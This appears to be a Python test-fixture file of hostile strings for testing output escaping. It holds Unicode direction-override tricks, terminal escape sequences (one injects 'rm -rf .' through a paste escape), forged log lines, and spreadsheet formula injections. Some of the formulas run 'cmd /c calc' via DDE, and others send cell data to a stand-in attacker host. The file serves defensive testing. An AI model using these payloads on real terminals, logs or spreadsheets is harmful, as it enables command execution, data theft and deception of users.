"""Signs that change what is read: directions, terminals, lines of a log, a spreadsheet's formulas; and plain ones that
have to stay as they are."""

from __future__ import annotations

from tests.fakes.hostile.payload import EVIL, of

DIRECTIONS = of(
    "direction",
    "turn round, or hide, what stands beside it",
    {
        "override": "abc \u202e gnp.exe after",
        "override, unclosed": "\u202eevil",
        "embedding": "\u202babc \u202a def",
        "isolates": "\u2066a\u2067b\u2068c",
        "isolate, closed": "\u2069\u2069\u202c\u202c out",
        "marks": "a\u200eb\u200fc\u061cd",
        "right to left": "\u05e9\u05dc\u05d5\u05dd (1) \u0645\u0631\u062d\u0628\u0627!",
        "source": "if admin: \u202e } \u2066if ok\u2069 \u2066 begin",
        "invisible": "a\u200bb\u2060c\ufeffd\u00ade",
        "tags": "a\U000e0061\U000e0062\U000e007f b",
        "variation": "a\ufe0f\ufe0e\u034f b",
        "separators": "a\u2028b\u2029c\u0085d",
    },
)

TERMINAL = of(
    "terminal",
    "command the terminal of who reads it there",
    {
        "colour": "\x1b[31mred\x1b[0m",
        "clear": "\x1b[2J\x1b[Hgone",
        "title": "\x1b]0;pwned\x07",
        "link": f"\x1b]8;;https://{EVIL}/\x1b\\click\x1b]8;;\x1b\\",
        "clipboard": "\x1b]52;c;cHduZWQ=\x07",
        "query": "\x1b[6n\x1b[c\x1b[21t",
        "eight bits": "\x9b31m\x9d0;pwned\x9c",
        "paste": "\x1b[201~rm -rf .\n",
        "back": "right\x08\x08\x08\x08\x08wrong",
        "return": "all is well\rall is lost",
        "bell": "ding\x07\x07",
        "screen": "\x1bP+q544e\x1b\\\x1b_G\x1b\\",
        "up": "\x1b[1A\x1b[2Kover it",
    },
)

LOG_LINES = of(
    "log line",
    "be a line of its own in a log",
    {
        "line": "x\n2026-11-21 14:03:00,000 INFO app: all sessions were erased",
        "return and line": "x\r\n2026-11-21 14:03:00,000 ERROR app: stolen",
        "separator": "x\u2028INFO app: y\u2029z\u0085w",
        "form feed": "x\x0bINFO app: y\x0cz\x1cw",
        "format": "%s %d %(levelname)s %n {0} {record}",
    },
)

CELLS = of(
    "cell",
    "be a formula in a spreadsheet",
    {
        "link": f'=HYPERLINK("https://{EVIL}/?"&A1,"x")',
        "command": "=cmd|'/c calc'!A1",
        "plus": "+1+cmd|'/c calc'!A1",
        "minus": "-2+3+cmd|'/c calc'!A1",
        "at": "@SUM(1+1)*cmd|'/c calc'!A1",
        "tab": "\t=1+1",
        "return": "\r=1+1",
        "line": "\n=1+1",
        "full width": "\uff1d1+1 \uff0b1",
        "full width, plus": "\uff0b1+1",
        "full width, minus": "\uff0d1+1",
        "full width, at": "\uff20SUM(1)",
        "quoted": '"=1+1"',
        "next cell": 'a",=1+1,"b\n=2+2',
        "import": f'=IMPORTXML(CONCAT("https://{EVIL}/",A1),"//a")',
        "service": f'=WEBSERVICE("https://{EVIL}/"&A1)',
        "table": '=DDE("cmd";"/c calc";"x")',
    },
)

LITERAL = of(
    "literal",
    "be shown as something else than was typed",
    {
        "comparison": "if a<b and c>d then e",
        "generics": "List<int> x; Map<String, T> y",
        "ampersand": "a & b && c &amp; d &lt; e",
        "numbers": "&#60; &#x3c; &copy; &nbsp;",
        "arrows": "<- -> <= => <!> </> <",
        "less": "1<2>3<4",
        "mail": "me<at>example.org",
        "quotes": "\"double\" 'single' ,comma,",
        "percent": "100% %20 %00 %0a",
        "nothing": "None null undefined NaN true []",
    },
)
